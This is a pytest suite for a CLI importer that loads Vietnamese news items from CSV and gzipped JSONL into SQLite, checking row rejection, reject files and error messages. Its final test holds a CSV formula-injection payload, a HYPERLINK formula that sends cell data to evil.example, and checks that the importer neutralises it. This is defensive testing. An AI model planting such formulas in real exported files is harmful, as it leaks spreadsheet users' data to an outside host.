"""``mediawatch import FILE`` through typer's runner, into a real SQLite store."""

from __future__ import annotations

import csv
import gzip
import json
import os
import subprocess
import sys
from datetime import UTC, datetime

import pytest
import structlog
from typer.testing import CliRunner

from index.sqlite import SQLiteStore
from mediawatch.cli import app
from mediawatch.config import Settings
from mediawatch.identity import web_item_id
from tests.conftest import REPO

HEADER = "url,title,text,source_id,published_at,authors,source_tier,ghi_chu\n"
CSV_ROWS = (
    # line 2: good; a date without a zone is Vietnam time
    "https://baolamdong.vn/a1,Đà Lạt đón khách dịp lễ,Lượng khách tăng mạnh.,vendor-a,"
    "2025-06-03 08:00,Thanh Tâm; Minh Đức,press,ok\n"
    # lines 3-4: good, the text spans two lines
    'https://baolamdong.vn/a2,Sạt lở đèo Prenn,"Mưa lớn gây sạt lở.\nTạm cấm xe.",vendor-a,'
    "2025-06-03T10:00:00+07:00,,,\n"
    # line 5: a date nobody can read
    "https://baolamdong.vn/a3,Tin ba,Nội dung ba.,vendor-a,hôm qua,,,\n"
    # line 6: not a web address
    "baolamdong.vn/a4,Tin bốn,Nội dung bốn.,vendor-a,,,,\n"
    # line 7: no title
    "https://baolamdong.vn/a5,,Nội dung năm.,vendor-a,,,,\n"
    # line 8: a column short
    "https://baolamdong.vn/a6,Tin sáu,Nội dung sáu.,vendor-a\n"
    # line 9: good
    "https://www.facebook.com/groups/lacduong/posts/9,Tin đồn Lạc Dương,"
    "Nghe nói sắp thu hồi đất ở Lạc Dương.,staff-submitted,,,,\n"
)


@pytest.fixture(autouse=True)
def _restore_logging():
    """The command points structlog at the runner's stream, closed once the run is over."""
    saved = structlog.get_config()
    yield
    structlog.configure(**saved)


@pytest.fixture
def env(tmp_path) -> dict[str, str]:
    return {"MEDIAWATCH_DATA_DIR": str(tmp_path / "data")}


def run(env: dict[str, str], *args: str):
    return CliRunner().invoke(app, ["import", *args], env=env)


def stored(env: dict[str, str]) -> SQLiteStore:
    return SQLiteStore(Settings(data_dir=env["MEDIAWATCH_DATA_DIR"]).database_path)


def test_csv_import_keeps_good_rows_and_reports_bad_ones(tmp_path, env):
    source = tmp_path / "tin.csv"
    source.write_bytes(b"\xef\xbb\xbf" + (HEADER + CSV_ROWS).encode())  # Excel's BOM
    result = run(env, str(source))
    assert result.exit_code == 0, result.output
    output = result.output
    assert f"{source}:5: published_at:" in output
    assert f"{source}:6: url: Value error, must be an absolute http(s) URL" in output
    assert f"{source}:7: title:" in output
    assert f"{source}:8: expected 8 columns, found 4" in output
    assert "3 tin mới" in output and "4 bị loại" in output
    assert "ghi_chu" in output  # the unknown column is named, and ignored

    store = stored(env)
    first = store.get(web_item_id("https://baolamdong.vn/a1"))
    assert first is not None
    assert first.published_at == datetime(2025, 6, 3, 1, tzinfo=UTC)
    assert first.authors == ["Thanh Tâm", "Minh Đức"]
    assert first.source_tier == "press"
    second = store.get(web_item_id("https://baolamdong.vn/a2"))
    assert second is not None and second.text == "Mưa lớn gây sạt lở.\nTạm cấm xe."
    assert second.source_tier == "unknown"
    assert store.get(web_item_id("https://facebook.com/groups/lacduong/posts/9")) is not None

    rejects = list(csv.DictReader((tmp_path / "tin.rejects.csv").open(encoding="utf-8")))
    assert [int(r["line"]) for r in rejects] == [5, 6, 7, 8]
    assert rejects[0]["published_at"] == "hôm qua"
    assert "published_at" in rejects[0]["reason"]

    again = run(env, str(source))
    assert again.exit_code == 0
    assert "0 tin mới, 0 cập nhật, 3 không đổi" in again.output


def test_gzipped_jsonl_with_broken_lines(tmp_path, env):
    good = {
        "url": "https://t.me/tinlamdong/102",
        "title": "Sạt lở đèo Prenn",
        "text": "Người dân hạn chế lưu thông qua đèo Prenn.",
        "source_id": "staff-submitted",
        "published_at": "2025-06-03T02:00:00Z",
        "authors": ["Tin Lâm Đồng 24h"],
    }
    lines = [
        json.dumps(good, ensure_ascii=False),
        '{"url": "https://t.me/tinlamdong/103", "title": "Thiếu ngoặc"',
        "",
        '["không phải", "đối tượng"]',
        json.dumps(good | {"url": "https://t.me/tinlamdong/104", "text": "Tin khác hẳn."}),
        json.dumps(good | {"url": "https://t.me/tinlamdong/105", "source_id": "Nhân viên"}),
    ]
    source = tmp_path / "telegram.jsonl.gz"
    source.write_bytes(gzip.compress("\n".join(lines).encode()))
    result = run(env, str(source))
    assert result.exit_code == 0, result.output
    assert f"{source}:2: not JSON" in result.output
    assert f"{source}:4: not a JSON object" in result.output
    assert f"{source}:6: source_id:" in result.output
    assert "2 tin mới" in result.output
    written = (tmp_path / "telegram.rejects.jsonl").read_text(encoding="utf-8")
    rejects = [json.loads(line) for line in written.splitlines()]
    assert [r["line"] for r in rejects] == [2, 4, 6]
    assert rejects[0]["raw"].startswith('{"url": "https://t.me/tinlamdong/103"')
    assert rejects[2]["source_id"] == "Nhân viên"
    assert stored(env).get("telegram:tinlamdong:104") is not None


def test_format_option_overrides_the_name(tmp_path, env):
    source = tmp_path / "export.txt"
    source.write_text(HEADER + CSV_ROWS, encoding="utf-8")
    assert run(env, str(source)).exit_code == 1  # the name says nothing
    result = run(env, str(source), "--format", "csv")
    assert result.exit_code == 0, result.output
    assert (tmp_path / "export.rejects.csv").exists()


def test_a_truncated_gzip_keeps_the_rows_before_it(tmp_path, env):
    rows = [
        {
            "url": f"https://baolamdong.vn/tin-{n}",
            "title": f"Tin số {n} về Lâm Đồng",
            "text": f"Nội dung tin số {n}: xã {n} tổ chức họp dân về quy hoạch.",
            "source_id": "vendor-a",
        }
        for n in range(400)
    ]
    data = gzip.compress("\n".join(json.dumps(r, ensure_ascii=False) for r in rows).encode())
    source = tmp_path / "cut.jsonl.gz"
    source.write_bytes(data[: len(data) * 2 // 3])
    result = run(env, str(source))
    assert result.exit_code == 0, result.output
    assert "reading stopped" in result.output
    store = stored(env)
    assert store.get(web_item_id("https://baolamdong.vn/tin-0")) is not None
    assert store.get(web_item_id("https://baolamdong.vn/tin-399")) is None


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("no-url.csv", "title,text,source_id\nA,B,c-d\n", "lacks column(s) url"),
        ("all-bad.jsonl", '{"url": "x"}\nnot json\n', "0 tin mới"),
        ("empty.csv", "", "lacks column(s)"),
        ("missing.csv", None, "cannot"),
        ("utf16.csv", HEADER.encode() + "Đà Lạt".encode("utf-16"), "cannot read"),
    ],
)
def test_exit_code_is_non_zero_only_when_nothing_could_be_read(
    tmp_path, env, name, content, message
):
    source = tmp_path / name
    if isinstance(content, str):
        source.write_text(content, encoding="utf-8")
    elif isinstance(content, bytes):
        source.write_bytes(content)
    result = run(env, str(source))
    assert result.exit_code == 1
    assert message in result.output


def run_process(env: dict[str, str], *args: str) -> subprocess.CompletedProcess[str]:
    """The real command in its own process, as an operator runs it."""
    return subprocess.run(
        [sys.executable, "-m", "mediawatch.cli", "import", *args],
        cwd=REPO,
        env=os.environ | env,
        capture_output=True,
        text=True,
        timeout=300,
    )


def item_row(n: int, **fields: str) -> dict[str, str]:
    return {
        "url": f"https://baolamdong.vn/tin-{n}",
        "title": f"Tin số {n} về Đà Lạt",
        "text": f"Nội dung tin số {n} về quy hoạch đất đai ở Đà Lạt.",
        "source_id": "vendor-a",
        "published_at": "2025-06-03T08:00:00+07:00",
    } | fields


def assert_good_rows_stored(env: dict[str, str], numbers: list[int]) -> None:
    store = stored(env)
    for n in numbers:
        assert store.get(web_item_id(f"https://baolamdong.vn/tin-{n}")) is not None, n


def assert_dated_0001_rejected_or_undated(env, result, source, line: int, n: int) -> None:
    """Either the row is refused with its line and a reason naming the date, or (once dates
    are bounded at every entrance) it is stored with an unknown date; never a stop."""
    item = stored(env).get(web_item_id(f"https://baolamdong.vn/tin-{n}"))
    if item is None:
        assert f"{source}:{line}: published_at" in result.stdout
    else:
        assert item.published_at is None


def test_a_bad_row_never_stops_a_csv_import(tmp_path, env):
    long_text = "Đà Lạt " * 21_500  # 150,500 characters: over the csv module's own limit
    rows = [
        item_row(1),
        item_row(2, published_at="0001-01-01 00:00"),  # line 3
        item_row(3),
        item_row(4, text=long_text),  # line 5: long, and allowed
        item_row(5, url="https://baolamdong.vn:99999/tin-5"),  # line 6: a port out of range
        item_row(6, text="x" * 250_000),  # line 7: longer than an item may be
        item_row(7),
        item_row(8),
    ]
    source = tmp_path / "tin.csv"
    with source.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.DictWriter(stream, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)

    result = run_process(env, str(source))

    assert result.returncode == 0, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    assert_good_rows_stored(env, [1, 3, 4, 7, 8])
    assert stored(env).get(web_item_id("https://baolamdong.vn/tin-4")).text.startswith("Đà Lạt")
    assert_dated_0001_rejected_or_undated(env, result, source, 3, 2)
    assert f"{source}:6: dòng không dùng được (unusable row): ValueError: Port out of range" in (
        result.stdout
    )
    assert f"{source}:7: một ô dài quá 200000 ký tự" in result.stdout
    rejects = {
        int(r["line"]): r["reason"]
        for r in csv.DictReader((tmp_path / "tin.rejects.csv").open(encoding="utf-8"))
    }
    assert {6, 7} <= set(rejects) <= {3, 6, 7}


def test_an_import_leaves_the_csv_cell_limit_of_the_process_as_it_was(tmp_path, env):
    """The long cell an item may have is read, yet the process-wide limit other CSV readers
    use (the claims import) is the same after an import as before it."""
    rows = [item_row(1, text="Đà Lạt " * 21_500), item_row(2)]  # 150,500 characters: allowed
    source = tmp_path / "dai.csv"
    with source.open("w", encoding="utf-8", newline="") as stream:
        writer = csv.DictWriter(stream, list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    original = csv.field_size_limit(131_072)  # the module's own, whatever ran before
    try:
        result = run(env, str(source))
        assert csv.field_size_limit() == 131_072
    finally:
        csv.field_size_limit(original)
    assert result.exit_code == 0, result.output
    assert_good_rows_stored(env, [1, 2])


def test_a_bad_row_never_stops_a_jsonl_import(tmp_path, env):
    lines = [
        json.dumps(item_row(1), ensure_ascii=False),
        json.dumps(item_row(2, published_at="0001-01-01T00:00:00+07:00")),
        json.dumps(item_row(3)),
        # a lone surrogate, as a JSON escape: refused, and kept in the rejects as written
        json.dumps(item_row(4, title="Tin \ud800 hỏng")),
        json.dumps(item_row(5, url="https://baolamdong.vn:abc/tin-5")),
        json.dumps(item_row(6, text="y" * 250_000)),
        json.dumps(item_row(7), ensure_ascii=False),
    ]
    source = tmp_path / "tin.jsonl"
    source.write_text("\n".join(lines) + "\n", encoding="utf-8")

    result = run_process(env, str(source))

    assert result.returncode == 0, result.stdout + result.stderr
    assert "Traceback" not in result.stderr
    assert_good_rows_stored(env, [1, 3, 7])
    assert_dated_0001_rejected_or_undated(env, result, source, 2, 2)
    assert f"{source}:4: title:" in result.stdout
    assert f"{source}:5: dòng không dùng được (unusable row): ValueError: Port" in result.stdout
    assert f"{source}:6: text: String should have at most 200000 characters" in result.stdout
    rejects = [json.loads(line) for line in (tmp_path / "tin.rejects.jsonl").open()]
    assert {4, 5, 6} <= {r["line"] for r in rejects} <= {2, 4, 5, 6}
    assert next(r for r in rejects if r["line"] == 4)["title"] == "Tin \ud800 hỏng"


def test_rejected_rows_cannot_run_as_formulas_when_opened_in_a_spreadsheet(tmp_path, env):
    source = tmp_path / "doc.csv"
    source.write_text(
        HEADER + '=HYPERLINK("http://evil.example/?x="&A1;"Bấm"),Tin,Nội dung.,vendor-a,,,,\n',
        encoding="utf-8",
    )
    run(env, str(source))
    (rejected,) = csv.DictReader((tmp_path / "doc.rejects.csv").open(encoding="utf-8"))
    assert rejected["url"] == '\'=HYPERLINK("http://evil.example/?x="&A1;"Bấm")'
